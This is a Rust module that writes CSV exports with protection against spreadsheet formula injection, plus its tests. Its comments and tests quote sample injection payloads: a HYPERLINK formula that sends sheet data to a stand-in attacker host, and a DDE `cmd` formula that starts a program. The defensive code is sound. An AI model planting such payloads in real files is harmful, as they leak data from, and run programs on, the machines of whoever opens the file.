//! The one way this program writes CSV (the reports' `text/csv`, an import's rejects file): RFC 4180
//! records (CRLF, quoted where needed, rows of any length), and no cell a spreadsheet would run.
//!
//! Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` as a
//! formula, and skip a leading tab or carriage return before deciding so. A customer named
//! `=HYPERLINK("https://evil.example/?"&A2,"详情")` or an order line's category `=cmd|'/c calc'!A0`
//! would then run on the manager's machine that opens the export: sending the sheet's other cells
//! away, or starting a program through DDE (OWASP "CSV Injection"). So every field written here
//! goes through `neutralise`: such a cell gets a leading `'`, which spreadsheets show as text and
//! never evaluate.
//!
//! Except a plain number — an optional sign, ASCII digits, optionally a point and more digits
//! (`-12.50`, `-3`, `+8613812345678`). A spreadsheet reads it as the number it is; with no letter,
//! operator after the sign, parenthesis or second point there is nothing in it to evaluate. Refunds,
//! negative adjustments and counts must stay numbers a column can sum, and an E.164 phone in a
//! rejects file must import again as written. Anything else after a sign (`-1+2`, `-1e5`, `+86 138`)
//! is quoted: it is not worth proving which of those a spreadsheet would evaluate.
//!
//! `restore` undoes the quote for what the import reads, so a rejects file that was fixed and
//! imported again gives back the cells as they were.

use std::borrow::Cow;

pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// What makes a spreadsheet read a cell as a formula when it comes first.
const TRIGGERS: [u8; 6] = [b'=', b'+', b'-', b'@', b'\t', b'\r'];

fn is_plain_number(cell: &[u8]) -> bool {
    let unsigned = cell.strip_prefix(b"-").or_else(|| cell.strip_prefix(b"+")).unwrap_or(cell);
    let digits = |part: &[u8]| !part.is_empty() && part.iter().all(u8::is_ascii_digit);
    match unsigned.iter().position(|b| *b == b'.') {
        Some(point) => digits(&unsigned[..point]) && digits(&unsigned[point + 1..]),
        None => digits(unsigned),
    }
}

/// True when a spreadsheet could evaluate `cell`.
pub fn needs_quote(cell: &[u8]) -> bool {
    cell.first().is_some_and(|b| TRIGGERS.contains(b)) && !is_plain_number(cell)
}

/// `cell` as it may stand in a CSV: a leading `'` when a spreadsheet could evaluate it.
pub fn neutralise(cell: &[u8]) -> Cow<'_, [u8]> {
    if !needs_quote(cell) {
        return Cow::Borrowed(cell);
    }
    let mut quoted = Vec::with_capacity(cell.len() + 1);
    quoted.push(b'\'');
    quoted.extend_from_slice(cell);
    Cow::Owned(quoted)
}

/// A cell read from a CSV without the quote `neutralise` (or a spreadsheet user) put before a
/// formula-like value: `'=1+2` is the text `=1+2`. A `'` before anything else is the cell's own.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest.as_bytes()) => rest,
        _ => cell,
    }
}

/// CSV into memory, every field neutralised.
pub struct Writer {
    inner: csv::Writer<Vec<u8>>,
}

impl Writer {
    fn starting_with(bytes: Vec<u8>) -> Writer {
        let inner = csv::WriterBuilder::new().flexible(true).terminator(csv::Terminator::CRLF).from_writer(bytes);
        Writer { inner }
    }

    /// A file's beginning: the UTF-8 BOM, so Excel reads Chinese as such.
    pub fn with_bom() -> Writer {
        Writer::starting_with(BOM.to_vec())
    }

    /// More records for a file already begun.
    pub fn continuing() -> Writer {
        Writer::starting_with(Vec::new())
    }

    pub fn write<I, T>(&mut self, record: I) -> Result<(), String>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<[u8]>,
    {
        for field in record {
            self.inner.write_field(neutralise(field.as_ref())).map_err(|e| e.to_string())?;
        }
        // An empty record ends the one the fields began.
        self.inner.write_record(None::<&[u8]>).map_err(|e| e.to_string())
    }

    pub fn into_bytes(self) -> Result<Vec<u8>, String> {
        self.inner.into_inner().map_err(|e| e.to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// (cell, as written): every trigger, the numbers that stay numbers, and near misses.
    const CASES: &[(&str, &str)] = &[
        ("=1+2", "'=1+2"),
        ("=HYPERLINK(\"https://evil.example\")", "'=HYPERLINK(\"https://evil.example\")"),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("\t5", "'\t5"),
        ("=", "'="),
        ("-", "'-"),
        ("+", "'+"),
        ("--1", "'--1"),
        ("+-1", "'+-1"),
        ("-.5", "'-.5"),
        ("-5.", "'-5."),
        ("-1.2.3", "'-1.2.3"),
        ("-1e5", "'-1e5"),
        ("-1,234.50", "'-1,234.50"),
        ("+86 138 1234 5678", "'+86 138 1234 5678"),
        ("-12.50", "-12.50"),
        ("-3", "-3"),
        ("-0", "-0"),
        ("+5", "+5"),
        ("+8613812345678", "+8613812345678"),
        ("12.50", "12.50"),
        ("2026-11-22", "2026-11-22"),
        ("1-2", "1-2"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        (" =1+2", " =1+2"),
        ("'=1+2", "'=1+2"),
        ("", ""),
    ];

    #[test]
    fn cells_a_spreadsheet_would_run_are_quoted_and_plain_numbers_are_not() {
        for (cell, written) in CASES {
            assert_eq!(neutralise(cell.as_bytes()).as_ref(), written.as_bytes(), "{cell:?}");
        }
    }

    #[test]
    fn restore_gives_back_what_was_neutralised() {
        for (cell, written) in CASES.iter().filter(|(cell, _)| !cell.starts_with('\'')) {
            assert_eq!(restore(written), *cell, "{written:?}");
        }
        for (cell, read) in [("'abc", "'abc"), ("'-3", "'-3"), ("''=1", "''=1"), ("'", "'")] {
            assert_eq!(restore(cell), read, "a quote before a harmless value is the cell's own: {cell:?}");
        }
    }

    #[test]
    fn the_writer_quotes_every_field_and_frames_records_as_rfc_4180() {
        let mut writer = Writer::with_bom();
        writer.write(["name", "amount"]).unwrap();
        writer.write(["=1+2", "-12.50"]).unwrap();
        writer.write(vec![b"@x, y".to_vec()]).unwrap();
        let bytes = writer.into_bytes().unwrap();
        assert_eq!(bytes, b"\xEF\xBB\xBFname,amount\r\n'=1+2,-12.50\r\n\"'@x, y\"\r\n");
        let mut more = Writer::continuing();
        more.write(["-3", "+cmd"]).unwrap();
        assert_eq!(more.into_bytes().unwrap(), b"-3,'+cmd\r\n");
    }
}
